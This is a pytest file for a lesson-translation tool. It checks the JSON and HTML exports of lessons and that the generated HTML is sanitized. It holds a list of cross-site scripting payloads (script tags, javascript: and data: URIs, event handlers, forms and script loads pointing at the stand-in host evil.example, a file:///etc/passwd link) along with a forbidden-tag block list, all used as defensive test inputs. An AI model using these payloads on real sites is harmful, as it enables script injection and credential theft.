"""Lessons as JSON: what stands above them, their Markdown, and HTML that nothing can run in."""

from __future__ import annotations

import json
import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bundles import contents, course, manifest
from lesson_i18n.bundles.export import PREFIX, safe_html, schemes_of
from lesson_i18n.bundles.top import top_of
from lesson_i18n.deep_links import DEEP_LINKS
from lesson_i18n.model import Syntax
from lesson_i18n.syntax import html_of
from projects import Project

SCHEMES = schemes_of(DEEP_LINKS)
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa&#x53;cript&colon;alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<div id=app name=app>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "</div></div><script>alert(1)</script>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<a href='#' target=_blank rel=opener>x</a>",
    "`<script>`alert(1)`</script>`<script>alert(1)</script>",
]
FORBIDDEN_TAGS = {
    *(
        "script",
        "style",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "link",
        "meta",
        "base",
    ),
    *("template", "video", "audio", "source", "noscript", "frame"),
}


class Judge(HTMLParser):
    """Gathers what in a piece of HTML could run, look like another page, or lead where nothing may."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.match(r"[\s\x00-\x20]*([^/?#:]*):", value or "")
            is_bad = name in ("href", "src", "cite") and scheme and scheme[1].lower() not in SCHEMES
            is_loose = name in ("id", "name") and not re.match(rf"fn(ref)?\d+(:\d+)?\Z|{PREFIX}", value or "")
            if name.startswith("on") or name in ("style", "srcdoc", "target") or is_bad or is_loose:
                self.found.append(f"{tag} {name}={value}")
        if tag == "a" and any(name == "href" for name, _ in attrs) and ("rel", "noopener noreferrer") not in attrs:
            self.found.append("a without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")


def harm(html: str) -> list[str]:
    """Return what is left in HTML that could do harm."""
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.found


@pytest.fixture
def project(tmp_path: Path) -> Project:
    """Return a project that exports its lessons."""
    return course(tmp_path / "course", '[bundle]\nexport = ["json"]\n')


def exported(project: Project, name: str = "steps.md", language: str = "es") -> Any:
    return json.loads(project.read(f"build/{language}/{name}.json"))


def test_a_lesson_is_exported_with_all_that_an_app_shows(project: Project) -> None:
    project.build()
    link = 'href="other.md#more" rel="noopener noreferrer"'
    auto = 'href="https://example.org/a" rel="noopener noreferrer"'
    assert exported(project) == {
        "schema": 1,
        "path": "steps.md",
        "language": "es",
        "direction": "ltr",
        "title": "Primeros pasos",
        "front_matter": None,
        "metadata": [{"key": "Title", "value": "Primeros pasos"}, {"key": "Order", "value": "2"}],
        "markdown": "Lee [más](other.md#more) en <https://example.org/a>.\n",
        "html": '<div lang="es" dir="ltr">\n'
        f"<p>Lee <a {link}>más</a> en <a {auto}>https://example.org/a</a>.</p>\n</div>\n",
    }
    assert exported(project, language="ar")["html"].startswith('<div lang="ar" dir="rtl">\n<p>Read ')


def test_exports_are_in_the_bundle_and_gone_when_nobody_wants_them(project: Project) -> None:
    project.build()
    bundle = project.root / "build/course-es.zip"
    kinds = {file["path"]: file["kind"] for file in manifest(bundle)["files"]}
    assert kinds["steps.md.json"] == "export"
    assert contents(bundle)["steps.md.json"] == (project.root / "build/es/steps.md.json").read_bytes()
    assert project.run("verify", "build/course-es.zip").code == 0
    project.write("lesson-i18n.toml", project.read("lesson-i18n.toml").replace('export = ["json"]', ""))
    project.build()
    assert not (project.root / "build/es/steps.md.json").exists()
    assert "steps.md.json" not in contents(bundle)


def test_keys_that_stand_several_times_stay_in_order(project: Project) -> None:
    project.write("source/.checks.md", "[Text]: # (One)\r\n[NoCheck]: # (true)\r\n\r\n[Text]: # (Two (or) more))\r\n")
    project.write("source/front.md", "---\ntitle: Front\n---\n[Order]: # (1)\n\n[Text]: no metadata\n\nBody.\n")
    project.extract()
    project.build()
    found = exported(project, ".checks.md")
    assert [(each["key"], each["value"]) for each in found["metadata"]] == [
        ("Text", "One"),
        ("NoCheck", "true"),
        ("Text", "Two (or) more)"),
    ]
    assert found["markdown"] == ""
    found = exported(project, "front.md")
    assert (found["title"], found["front_matter"]) == ("Front", "title: Front\n")
    assert found["markdown"] == "[Text]: no metadata\n\nBody.\n"


def test_deep_links_and_tables_and_footnotes_stay() -> None:
    text = "[a](umbrella://lesson/x) ~~b~~[^1] <b dir=rtl>c</b>\n\n[^1]: Note\n\n|x|y|\n|-|-|\n|1|2|\n"
    html = safe_html(html_of(text, SCHEMES), SCHEMES)
    for part in (
        'href="umbrella://lesson/x"',
        "<s>b</s>",
        '<li id="fn1">',
        'href="#fn1"',
        '<b dir="rtl">c</b>',
        "<td>1</td>",
    ):
        assert part in html
    assert harm(html) == []


def test_a_bare_address_with_a_scheme_is_a_link_and_no_other_word_is() -> None:
    text = "https://example.org/a?b=(c), umbrella://lesson/x/0. lessons.md example.org a@example.org app://x tel:1 `http://c`\n"
    html = safe_html(html_of(text, SCHEMES), SCHEMES)
    assert re.findall('href="([^"]*)"', html) == [
        "https://example.org/a?b=(c)",
        "umbrella://lesson/x/0",
        "mailto:a@example.org",
    ]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("form", ["{}", "a {} b", "> {}\n", "- {}\n", "|a|\n|-|\n|{}|\n", "[{}](x)", "<div>\n\n{}"])
def test_nothing_in_html_can_do_harm(attack: str, form: str) -> None:
    for has_ids in (False, True):
        assert harm(safe_html(html_of(form.format(attack), SCHEMES), SCHEMES, has_ids)) == []


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<", ">", '"', "'", "\n\n", "x", "`", "<!--", "</", "<p ", "]]>"]), max_size=6
    )
)
def test_nothing_in_html_can_do_harm_in_any_order(parts: list[str]) -> None:
    for has_ids in (False, True):
        assert harm(safe_html(html_of("".join(parts), SCHEMES), SCHEMES, has_ids)) == []


def test_the_judge_of_these_tests_sees_harm() -> None:
    seen = [attack for attack in ATTACKS if harm(html_of(attack))]
    assert len(seen) > 20


STEPS = """# Steps

[stop](#cut-off-contact) [twice](#go-1) [here](#here) [there](#there) [there](#with-an-id) [top](#top) [note](#fn1)[^1]
[other](other.md#keep-calm) [deep](umbrella://lesson/other#keep-calm) [page](https://example.org/a.md#b) [pdf](a.pdf#page=2)

## Cut off *contact*

<a id="here"></a><a name="there"></a>

> Go
> --

- ## Go

## Last {#with-an-id}

[^1]: Note
"""
COURSE = {"Cut off *contact*": "اقطع *الاتصال*", "Go": "اذهب", "Last": "أخيرا", "Keep calm": "ابق هادئا"}


class Ends(HTMLParser):
    """Gathers the ids in HTML, and where its links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.ids += [value or "" for name, value in attrs if name in ("id", "name")]
        self.links += [unquote(value or "") for name, value in attrs if name == "href"]


def with_headings(root: Path, settings: str = "") -> Project:
    """Return a project of two lessons with many links to headings, translated into Arabic and built."""
    made = Project(root, f'[project]\nname = "course"\nlanguages = ["ar"]\n[bundle]\nexport = ["json"]\n{settings}')
    made.write("source/steps.md", "[Order]: # (1)\r\n\r\n" + STEPS.replace("\n", "\r\n"))
    made.write("source/other.md", "# Other\n\n## Keep calm\n")
    made.extract()
    made.translate({text: msgstr for text, msgstr in COURSE.items() if text != "Last"}, language="ar")
    made.build()
    return made


@pytest.mark.parametrize("anchors", ["", "anchors = true\n"])
@pytest.mark.parametrize("syntax", ["gfm", "mkdocs"])
def test_links_to_headings_lead_to_ids(tmp_path: Path, anchors: str, syntax: str) -> None:
    settings = f'[publish]\nslugger = "github"\n{anchors}[markdown]\nsyntax = "{syntax}"\n'
    project = with_headings(tmp_path, settings)
    steps, other = (exported(project, name, "ar")["html"] for name in ("steps.md", "other.md"))
    found, others = Ends(steps), Ends(other)
    assert "{" not in steps + other
    links = [link.partition("#") for link in found.links]
    inside = [fragment for place, _, fragment in links if not place and fragment != "top"]
    assert len(inside) == 8  # the last leads back from the note
    assert set(inside) <= set(found.ids)
    (beside,) = {fragment for place, _, fragment in links if "other" in place}
    assert beside in others.ids
    assert {"#top", "https://example.org/a.md#b", "a.pdf#page=2"} <= set(found.links)
    assert len(set(found.ids)) == len(found.ids)
    assert all(each.startswith((PREFIX, "fn")) for each in found.ids)
    assert (f"{PREFIX}keep-calm" in others.ids) == bool(anchors)
    assert harm(steps) == []


def test_without_a_slugger_headings_have_no_ids_and_links_stay(tmp_path: Path) -> None:
    found = Ends(exported(with_headings(tmp_path), "steps.md", "ar")["html"])
    assert {each for each in found.ids if not each.startswith("fn")} == set()
    assert {"#cut-off-contact", "other.md#keep-calm", "umbrella://lesson/other#keep-calm"} <= set(found.links)


def test_settings_cannot_allow_a_scheme_that_runs() -> None:
    assert schemes_of({"javascript:{x}": (), "data:{x}": (), "App://{x}": ()}) == {
        "http",
        "https",
        "mailto",
        "tel",
        "app",
    }


def test_a_file_in_the_place_of_an_export_is_an_error(project: Project) -> None:
    project.write("source/steps.md.json", "{}")
    done = project.run("build")
    assert done.code == 2
    assert "source/steps.md.json: a lesson is to be exported there; rename it" in done.err
    assert project.read("source/steps.md.json") == "{}"


@pytest.mark.parametrize("module", ["nh3", "linkify_it"])
def test_without_the_extra_the_error_names_it(project: Project, monkeypatch: pytest.MonkeyPatch, module: str) -> None:
    monkeypatch.setitem(sys.modules, module, None)
    done = project.run("build")
    assert done.code == 2
    assert "pip install 'lesson-i18n[export]'" in done.err
    assert not (project.root / "build/es").exists(), "nothing was written"


@given(st.text("[]:#() AaTitle\n\r\t-+x", max_size=60))
def test_top_and_body_are_the_lesson(text: str) -> None:
    top = top_of(text, Syntax.MARKDOWN)
    body = text[top.body :]
    assert top.metadata == () or len(body) < len(text)
    assert top_of(body, Syntax.COMMONMARK).metadata == () or top.front_matter or body[:3] in ("---", "+++")
